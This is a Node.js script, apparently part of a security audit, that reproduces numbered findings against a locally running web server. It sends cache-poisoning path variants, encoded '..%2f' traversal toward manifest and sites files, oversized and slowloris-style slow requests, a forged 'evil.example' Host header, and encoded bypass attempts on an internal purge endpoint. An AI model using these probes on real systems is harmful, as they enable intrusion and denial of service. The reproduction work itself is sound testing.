// node repro.mjs <port> [slow]: the reproductions of F1, F2, F8, F9, F10, F11, F15 against a network on this machine.
import net from 'node:net';

const port = Number(process.argv[2]);
const isSlow = process.argv[3] === 'slow';
const host = 'omni.localhost';
/** Sends bytes, reads until the end of the connection or 20 s. */
function raw(text, { body, waitMs = 20_000 } = {}) {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    const chunks = [];
    const started = Date.now();
    let error = '';
    socket.setTimeout(waitMs, () => {
      error = 'no end';
      socket.destroy();
    });
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', (e) => {
      error = e.code;
    });
    socket.on('close', () => {
      const all = Buffer.concat(chunks).toString('latin1');
      const [head] = all.split('\r\n\r\n');
      resolve({
        status: Number(head.slice(9, 12)) || 0,
        head,
        text: all.slice(head.length + 4),
        error,
        ms: Date.now() - started,
      });
    });
    socket.write(text);
    if (body) body(socket);
  });
}
const get = (path, { h = host, headers = '' } = {}) =>
  raw(`GET ${path} HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n${headers}\r\n`);
const type = ({ head }) => /content-type: ([^\r;]+)/i.exec(head)?.[1] ?? '-';
const has = ({ head }, name) => new RegExp(`^${name}:`, 'im').test(head);
const show = (answer) => `${answer.status} ${type(answer)}${answer.error ? ` (${answer.error})` : ''}`;
const say = (...words) => console.log(...words);

const home = await get('/');
const boot = /\/assets\/shell\/[^"]+\/boot\.js/.exec(home.text)?.[0];
const posts = [...new Set([...home.text.matchAll(/"urlPath":"(\/[a-z0-9-]+)"/g)].map(([, p]) => p))];
const post = posts[0];

say('## F1 poisoning: the real address, before and after 4 requests of each spelling for it');
const spellings = (p) => [
  `/x/..${p}`,
  `/.${p}`,
  `/%2e${p}`,
  `/x/%2e%2e${p}`,
  `/x\\..${p.replaceAll('/', '\\')}`,
  `//x${p}`,
  `/x/.%2e${p}`,
];
for (const path of [
  '/api/categories/list',
  '/api/currentUser',
  boot,
  '/healthz',
  '/service-worker.js',
  '/feed.xml',
  '/_marquee',
  '/readyz',
]) {
  const before = await get(path);
  const answers = [];
  for (const spelling of spellings(path)) {
    let last;
    for (let i = 0; i < 4; i += 1) last = await get(spelling);
    answers.push(last.status);
  }
  const afters = new Set();
  for (let i = 0; i < 6; i += 1) afters.add(show(await get(path)));
  say(
    `${path.replace(/0\.1\.0-\w+/, '<v>')}: ${show(before)} -> ${[...afters].join(' | ')}; spellings answer ${answers.join(' ')}`,
  );
}
say('## F2 reserved words');
for (const path of [
  '/list',
  '/category/list',
  '/channel/list',
  '/author/list',
  '/tag/list',
  '/category/list/articles',
  '/channel/list/articles',
  '/category/list/feed.xml',
  '/channel/list/feed.xml',
  '/author/list/feed.xml',
  `/oembed?url=http://omni.localhost:${port}/list`,
  '/next',
  '/mostviewed',
])
  say(`${path}: ${show(await get(path))}`);
say('## F8 errors');
for (const [name, size, chunked] of [
  ['2 MB with length', 2e6, false],
  ['2 MB chunked', 2e6, true],
  ['20 MB with length', 2e7, false],
  ['20 MB chunked', 2e7, true],
]) {
  const counts = {};
  for (let i = 0; i < 10; i += 1) {
    const answer = await raw(
      `POST /api/vocal/auth/signin HTTP/1.1\r\nHost: vocal.localhost\r\nConnection: close\r\nContent-Type: application/json\r\n${chunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${size}`}\r\n\r\n`,
      {
        body: (socket) => {
          const part = Buffer.alloc(65_536, 0x20);
          let left = size;
          const write = () => {
            while (left > 0 && !socket.destroyed) {
              left -= part.length;
              const piece = chunked
                ? Buffer.concat([Buffer.from(`${part.length.toString(16)}\r\n`), part, Buffer.from('\r\n')])
                : part;
              if (!socket.write(piece)) {
                socket.once('drain', write);
                return;
              }
            }
            if (chunked && !socket.destroyed) socket.write('0\r\n\r\n');
          };
          write();
        },
      },
    );
    const key = show(answer);
    counts[key] = (counts[key] ?? 0) + 1;
  }
  say(`${name}: ${JSON.stringify(counts)}`);
}
const told = (answer) =>
  `${show(answer)}, nosniff ${has(answer, 'x-content-type-options')}, documented ${/"code":/.test(answer.text)}`;
const post_ = (path, headers, body = '{}') =>
  raw(
    `POST ${path} HTTP/1.1\r\nHost: vocal.localhost\r\nConnection: close\r\n${headers}Content-Length: ${body.length}\r\n\r\n${body}`,
  );
say(`/api/posts/..: ${told(await get('/api/posts/..'))}`);
say(`/api/posts/%ff: ${told(await get('/api/posts/%ff'))}`);
say(`/res/%ff: ${told(await get('/res/%ff'))}`);
say(
  `content type of 500 characters: ${told(await post_('/api/vocal/auth/signin', `Content-Type: ${'a'.repeat(500)}\r\n`))}`,
);
say(
  `two content types: ${told(await post_('/api/vocal/auth/signin', 'Content-Type: application/json, text/html\r\n'))}`,
);
say(`header of 20 kB: ${told(await get('/api/currentUser', { headers: `X-A: ${'a'.repeat(20_000)}\r\n` }))}`);
say(`address of 9 kB: ${told(await get(`/api/posts/${'a'.repeat(9_000)}`))}`);
say(`address of 20 kB: ${told(await get(`/api/posts/${'a'.repeat(20_000)}`))}`);
say(
  `PUT a page: ${told(await raw(`PUT / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n`))}`,
);
say(`no HTTP: ${told(await raw('HELLO\r\n\r\n'))}`);
say('## F10 a page number where there is none');
say(
  `${post}?page=7: ${show(await get(`${post}?page=7`))}; /about?page=7: ${show(await get('/about?page=7'))}; /page/2?page=9: ${show(await get('/page/2?page=9'))}`,
);
say('## F11 traversal');
const version = /shell\/([^/]+)\//.exec(boot)?.[1];
for (const path of [
  `/assets/shell/${version}/..%2fmanifest.json`,
  `/assets/shell/${version}/..%2fserver%2fsites.json`,
  `/assets/sites/..%2f..%2f..%2f..%2fshell%2f${version}%2fmanifest.json`,
  `/assets/shell/${version}/..%5cmanifest.json`,
  '/assets/..%2f..%2f/x/y',
  `/assets/shell/${version}/no-such.js`,
]) {
  const answer = await get(path);
  say(
    `${path.replaceAll(version, '<v>')}: ${show(answer)}, ${/cache-control: [^\r]+/i.exec(answer.head)?.[0] ?? 'no cache-control'}`,
  );
}
say('## F15');
const account = '{"email":"moderator@marquee.example","password":"review-for-marquee"}';
const signIn = await raw(
  `POST /api/vocal/auth/signin HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: ${account.length}\r\n\r\n${account}`,
);
say(`sign-in on omni: ${show(signIn)}, cookie ${has(signIn, 'set-cookie')}`);
const mine = await get('/api/posts/list?limit=1');
const other = await get('/api/posts/list?limit=1&site=beat');
say(
  `posts of omni with site=beat: ${show(other)}, same as without: ${/"key":"[^"]+"/.exec(mine.text)?.[0] === /"key":"[^"]+"/.exec(other.text)?.[0]}`,
);
const docs = await get('/api/docs/');
say(`/api/docs/: ${show(docs)}, CSP ${/content-security-policy: [^\r]+/i.exec(docs.head)?.[0] ?? 'none'}`);
for (const h of ['evil.example', host, 'localhost']) {
  const answer = await get('/healthz', { h });
  say(`/healthz of ${h}: ${show(answer)} ${answer.text.slice(0, 60)}`);
}
say(`/_marquee of evil.example: ${show(await get('/_marquee', { h: 'evil.example' }))}`);
for (const path of [
  '/api/internal/purges',
  '/api/%69nternal/purges',
  '/api//internal/purges',
  '/api/x/../internal/purges',
])
  say(`${path}: ${show(await get(path))}`);
for (const accept of [
  'br;q=0',
  'vibrant',
  'gzip',
  'zstd',
  'br, gzip',
  'gzip;q=1, br;q=0.5',
  'identity;q=0, *;q=0',
  '*',
]) {
  const answer = await get('/', { headers: `Accept-Encoding: ${accept}\r\n` });
  say(
    `Accept-Encoding ${accept}: ${/content-encoding: [^\r]+/i.exec(answer.head)?.[0] ?? 'no encoding'}, ${/content-length: [^\r]+/i.exec(answer.head)?.[0]}`,
  );
}
if (isSlow) {
  say('## F9 slow sockets: seconds until the connection ends (at most 100)');
  const drip = (text, next) =>
    raw(text, {
      waitMs: 400_000,
      body: (socket) => {
        const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : socket.write(next)), 1_000);
        setTimeout(() => socket.destroy(), 100_000).unref();
        socket.on('close', () => clearInterval(timer));
      },
    });
  const quiet = (text) => raw(text, { waitMs: 100_000 });
  const cases = {
    silent: quiet(''),
    'half a header, then nothing': quiet('GET / HTTP/1.1\r\nHost: a'),
    'slow header': drip('GET / HTTP/1.1\r\nHost: omni.localhost\r\n', 'X-A: b\r\n'),
    'slow body to a page': drip(`POST / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000\r\n\r\n`, 'a'),
    'slow GET body to a page': drip(`GET / HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000\r\n\r\n`, 'a'),
    'slow body to /api': drip(
      'POST /api/vocal/auth/signin HTTP/1.1\r\nHost: vocal.localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n',
      ' ',
    ),
  };
  const answers = await Promise.all(Object.entries(cases).map(async ([name, going]) => [name, await going]));
  for (const [name, { ms, status, error }] of answers)
    say(`${name}: ${(ms / 1000).toFixed(1)} s, ${status || 'no answer'}${error ? ` (${error})` : ''}`);
}
process.exit(0);
